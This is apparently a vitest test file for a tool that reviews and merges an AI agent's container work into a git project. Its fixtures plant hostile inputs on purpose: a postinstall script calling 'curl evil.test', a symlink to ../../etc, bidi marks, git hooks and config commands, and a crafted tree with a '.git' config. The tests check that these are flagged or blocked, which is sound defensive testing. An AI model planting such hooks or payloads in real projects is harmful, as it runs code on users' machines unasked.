import { existsSync } from 'node:fs';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, expect, test } from 'vitest';
import type { Container } from '../../electron/contract/containers.ts';
import type { MergeWay } from '../../electron/contract/review.ts';
import { getContainer } from '../../electron/engine/containers/list.ts';
import { containerEngine, inside, newContainer } from '../support/containers.ts';
import type { TestEngine } from '../support/docker.ts';
import { problemFrom } from '../support/problem.ts';
import { git, gitProject, tempFolder, writeFiles } from '../support/project.ts';
import { until } from '../support/until.ts';

let engine: TestEngine;

beforeAll(async () => {
  engine = await containerEngine();
});

const FILES = { a: 'one\n', 'package.json': '{"scripts":{"test":"true"}}\n', kept: 'kept\n' };

/** A container of a project of its own, after an agent did something in it. */
async function worked(script: string): Promise<{ project: string; container: Container }> {
  const project = await gitProject(FILES);
  const container = await engine.client.containers.create(newContainer({ project, branch: 'feat/work' }));
  await inside(container, `set -e\n${script}`);
  return { project, container };
}

const commit = (message: string): string => `git add -A && git commit -qm '${message}'`;

function lookAt({ name }: Container, wish: { patch?: boolean; committed?: boolean; path?: string } = {}) {
  return engine.client.review.look({ name, ...wish });
}

async function merge({ name }: Container, way: MergeWay = 'merge', into: string | null = null) {
  const { tip } = await engine.client.review.look({ name, committed: true });
  return engine.client.review.merge({ name, tip, into, way });
}

/** As its row in the list has it now. */
const shown = ({ name }: Container): Promise<Container> => getContainer(engine.context, name);

const stateOf = (project: string): Promise<string> => git(project, 'status', '--porcelain=v2', '--branch');

test('commits come home as refs, on every branch that has some, and the project’s own branches and files stay', async () => {
  const { project, container } = await worked(`
    echo two >a; ${commit('Second')}; git checkout -qb side; echo side >side; ${commit('On the side')}
    git checkout -q feat/work; echo stashed >>a; git stash -q; echo changed >>a; echo new >new`);
  const before = await stateOf(project);

  const fetched = await engine.client.review.fetch({ name: container.name });

  const ref = `refs/maestro/${container.shortName}/`;
  expect(fetched.refs.map(({ branch, ref: at, commits, was }) => [branch, at, commits, was])).toEqual([
    ['feat/work', `${ref}feat/work`, 1, null],
    ['side', `${ref}side`, 2, null],
  ]);
  expect(fetched).toMatchObject({ uncommitted: 2, stashes: 1, local: null });
  expect(await git(project, 'log', '--format=%s', `${ref}side`)).toBe('On the side\nSecond\nfirst');
  expect(await git(project, 'rev-parse', `${ref}feat/work`)).toBe(await inside(container, 'git rev-parse feat/work'));
  expect(await stateOf(project)).toBe(before);
  expect(await git(project, 'fsck', '--strict')).not.toMatch(/error|missing/);

  const again = await engine.client.review.fetch({ name: container.name, branch: 'mine' });
  expect(again.refs.map(({ oid, was }) => oid === was)).toEqual([true, true]);
  expect(await git(project, 'rev-parse', 'mine')).toBe(again.refs[0]?.oid);
  const taken = engine.client.review.fetch({ name: container.name, branch: 'main' });
  expect(await problemFrom(taken)).toMatchObject({ code: 'BRANCH_IN_USE' });
});

test('who fetches the same work at the same time gets it too', async () => {
  const { project, container } = await worked(`echo two >a; ${commit('Second')}; git branch side`);
  const fetches = [1, 2, 3, 4].map(() => engine.client.review.fetch({ name: container.name }));

  const oids = (await Promise.all(fetches)).map(({ refs }) => refs.map(({ oid }) => oid));

  const tip = await inside(container, 'git rev-parse HEAD');
  expect(new Set(oids.flat())).toEqual(new Set([tip]));
  expect(await git(project, 'rev-parse', `refs/maestro/${container.shortName}/feat/work`)).toBe(tip);
});

test('a look shows commits, files and what is not committed, and names what would act on this machine', async () => {
  const { project, container } = await worked(`
    mkdir -p .github/workflows sub; echo on: push >.github/workflows/x.yml; git mv kept moved
    echo '{"scripts":{"test":"true","postinstall":"curl evil.test"}}' >package.json; ln -s ../../etc sub/out
    printf 'if (a /*\\u202e*/ b)\\n' >src.js; ${commit('All of it')}; echo draft >draft`);
  const before = await stateOf(project);

  const seen = await lookAt(container, { patch: true });

  expect(seen).toMatchObject({ branch: 'feat/work', rewritten: false, uncommitted: 1, cut: false });
  expect(seen.commits.map(({ subject }) => subject)).toEqual(['All of it']);
  expect(seen.files.map(({ path, from, kind }) => [path, from, kind])).toEqual([
    ['.github/workflows/x.yml', null, 'added'],
    ['draft', null, 'added'],
    ['moved', 'kept', 'renamed'],
    ['package.json', null, 'modified'],
    ['src.js', null, 'added'],
    ['sub/out', null, 'added'],
  ]);
  expect(seen.patch).toContain('+draft');
  expect(seen.risks).toEqual([
    { kind: 'ci', path: '.github/workflows/x.yml', why: 'added' },
    { kind: 'script', path: 'package.json', why: 'postinstall' },
    { kind: 'bidi', path: 'src.js', why: 'marks of direction' },
    { kind: 'link', path: 'sub/out', why: 'leads to ../../etc' },
  ]);
  const moved = await lookAt(container, { patch: true, path: 'moved' });
  expect(moved.patch).toContain('rename to moved');
  expect(moved.patch).not.toContain('draft');
  const committed = await lookAt(container, { committed: true });
  expect(committed.files.map(({ path }) => path)).not.toContain('draft');
  expect([await stateOf(project), await git(project, 'for-each-ref', 'refs/maestro')]).toEqual([before, '']);
});

test('of the mission’s files that are not committed, what the agent wrote is shown, and what came with the project is not', async () => {
  const project = await gitProject(FILES);
  await writeFiles(project, { '.maestro/came.json': '{}', '.maestro/changed.json': '{}' });
  const container = await engine.client.containers.create(newContainer({ project, branch: 'feat/noted' }));
  expect(await lookAt(container)).toMatchObject({ uncommitted: 0, files: [] });
  await inside(container, "mkdir .maestro/new && echo 1 | tee '.maestro/new/[a] file' .maestro/changed.json");

  const seen = await lookAt(container);

  expect(seen.files.map(({ path }) => path)).toEqual(['.maestro/changed.json', '.maestro/new/[a] file']);
  expect(seen.uncommitted).toBe(2);
});

test('work that its user merged with their own git has come home when it is looked at next, and a checkout of its branch is no merge', async () => {
  const { project, container } = await worked(`echo two >a; ${commit('Second')}`);
  await engine.client.review.fetch({ name: container.name, branch: 'mine' });
  await git(project, 'checkout', '-q', '-b', container.branch, 'mine');
  expect((await lookAt(container)).commits.map(({ home }) => home)).toEqual([true]);
  expect((await shown(container)).merged).toBe(false);

  await git(project, 'checkout', '-q', 'main');
  await git(project, 'merge', '-q', '--no-edit', 'mine');
  await lookAt(container);

  await until('it to have nothing left', async () => (await shown(container)).merged);
  await inside(container, `echo three >a; ${commit('Third')}`);
  await until('it to have something again', async () => (await shown(container)).merged === false);
});

test('a merge goes into the branch that is checked out, its files follow, and it is taken back as a whole', async () => {
  const { project, container } = await worked(`echo two >a; ${commit('Second')}`);
  await writeFile(join(project, 'untracked'), 'mine');
  await writeFile(join(project, 'a'), 'mine\n');
  expect(await problemFrom(merge(container))).toMatchObject({ code: 'CHECKOUT_CHANGED', detail: 'a' });
  await git(project, 'checkout', '-q', 'a');
  await writeFile(join(project, 'kept'), 'kept\n');

  const merged = await merge(container);

  expect(merged).toMatchObject({ into: 'main', way: 'merge', commits: 1, checkout: project });
  expect(await git(project, 'log', '--format=%s|%an', '--first-parent')).toBe(
    `Merge ${container.shortName}: Do nothing at all|Ada\nfirst|Ada`,
  );
  expect(await readFile(join(project, 'a'), 'utf8')).toBe('two\n');
  expect(await git(project, 'status', '--porcelain')).toBe('?? untracked');
  expect(await problemFrom(merge(container))).toMatchObject({ code: 'MERGE_REFUSED' });
  expect((await lookAt(container)).commits.map(({ home }) => home)).toEqual([true]);

  await until('it to have nothing left', async () => (await shown(container)).merged);
  await inside(container, 'touch new');
  await until('it to have something again', async () => (await shown(container)).merged === false);
  await inside(container, 'rm new');
  await until('it to have nothing left', async () => (await shown(container)).merged);

  await git(project, 'checkout', '-q', '-b', 'elsewhere', 'main~');
  expect(await problemFrom(engine.client.review.unmerge({ name: null, project }))).toMatchObject({
    code: 'MERGE_REFUSED',
  });
  await git(project, 'checkout', '-q', 'main');
  await engine.client.review.unmerge({ name: null, project });
  expect((await shown(container)).merged).toBe(false);
  expect(await git(project, 'rev-parse', 'main')).toBe(merged.before);
  expect(await readFile(join(project, 'a'), 'utf8')).toBe('one\n');
  expect(await git(project, 'for-each-ref', 'refs/maestro-undo')).toBe('');
});

test('a branch that moved on takes the work squashed, rebased, or not at all', async () => {
  const { project, container } = await worked(`echo two >b; ${commit('Second')}; echo three >c; ${commit('Third')}`);
  await git(project, 'commit', '-q', '--allow-empty', '-m', 'Meanwhile');
  await git(project, 'branch', 'next');
  await git(project, 'branch', 'other');

  expect(await problemFrom(merge(container, 'ff-only', 'next'))).toMatchObject({ code: 'MERGE_REFUSED' });
  const squashed = await merge(container, 'squash', 'next');
  const rebased = await merge(container, 'rebase', 'other');

  expect(squashed).toMatchObject({ into: 'next', commits: 2, checkout: null });
  expect(await git(project, 'log', '-1', '--format=%B', 'next')).toContain('* Second\n* Third');
  expect(rebased).toMatchObject({ into: 'other', commits: 2 });
  expect(await git(project, 'log', '--format=%s', 'other')).toBe('Third\nSecond\nMeanwhile\nfirst');
  expect(await git(project, 'log', '--format=%s', 'main')).toBe('Meanwhile\nfirst');
  expect(await git(project, 'worktree', 'list')).not.toContain('quarantine');
});

test('what conflicts, was written anew below its base, or moved since it was looked at, is refused and nothing changes', async () => {
  const { project, container } = await worked(`echo two >a; ${commit('Second')}`);
  await writeFile(join(project, 'a'), 'other\n');
  await git(project, 'commit', '-qam', 'Other');
  const before = [await stateOf(project), await git(project, 'for-each-ref')];

  expect(await problemFrom(merge(container))).toMatchObject({ code: 'MERGE_CONFLICT', detail: 'a' });
  const { tip } = await lookAt(container);
  await inside(container, `echo more >more; ${commit('More')}`);
  const stale = engine.client.review.merge({ name: container.name, tip });
  expect(await problemFrom(stale)).toMatchObject({ code: 'REVIEW_MOVED' });
  await inside(
    container,
    'git checkout -q --orphan anew && git commit -qm anew && git branch -f feat/work && git checkout -q feat/work',
  );
  expect(await lookAt(container)).toMatchObject({ rewritten: true, base: null });
  expect(await problemFrom(merge(container))).toMatchObject({ code: 'MERGE_REFUSED' });

  expect([await stateOf(project), await git(project, 'for-each-ref')]).toEqual(before);
});

test('nothing that an agent configures runs here, and objects that are not git’s do not come in', async () => {
  const canary = join(await tempFolder(), 'canary');
  const { project, container } = await worked(`
    for key in core.fsmonitor core.sshCommand diff.external filter.x.clean filter.x.smudge diff.x.textconv merge.x.driver \\
      core.pager uploadpack.packObjectsHook; do git config $key 'touch ${canary}'; done
    printf '* filter=x diff=x merge=x\\n' >.gitattributes
    for hook in pre-commit post-checkout post-merge reference-transaction post-rewrite; do
      printf '#!/bin/sh\\ntouch ${canary}\\n' >.git/hooks/$hook; chmod +x .git/hooks/$hook; done
    echo two >a; git add -A; git -c core.hooksPath=/dev/null -c filter.x.clean=cat commit -qm Second`);
  await git(project, 'config', 'merge.x.driver', `touch ${canary}`);
  await git(project, 'config', 'diff.x.textconv', `touch ${canary}`);

  await lookAt(container, { patch: true });
  await engine.client.review.fetch({ name: container.name });
  await merge(container);

  expect(existsSync(canary)).toBe(false);
  await inside(
    container,
    `blob=$(echo evil | git hash-object -w --stdin)
    inner=$(printf '100644 blob %s\\tconfig\\n' $blob | git mktree)
    tree=$(printf '040000 tree %s\\t.git\\n' $inner | git mktree --missing)
    git -c core.hooksPath=/dev/null update-ref refs/heads/feat/work $(git commit-tree $tree -p HEAD -m evil)`,
  );
  expect(await problemFrom(engine.client.review.fetch({ name: container.name }))).toMatchObject({ code: 'GIT_FAILED' });
});

test('a container that is down, or whose project has no repository, says what to do', async () => {
  const { project, container } = await worked('true');
  await engine.client.containers.stop({ name: container.name });
  expect(await problemFrom(lookAt(container))).toMatchObject({ code: 'CONTAINER_NOT_RUNNING' });
  expect(await git(project, 'for-each-ref', 'refs/maestro')).toBe('');
});

test('lines that differ in blanks alone are left out of the patch where that is asked for', async () => {
  const { container } = await worked(`printf '  one\\n' >a; echo two >b; ${commit('Blanks')}`);
  const { name } = container;

  const all = await engine.client.review.look({ name, patch: true });
  const some = await engine.client.review.look({ name, patch: true, blanks: false });

  expect(all.patch).toContain('+  one');
  expect(some.patch).not.toContain('+  one');
  expect(some.patch).toContain('+two');
  expect(some.files).toEqual(all.files);
});
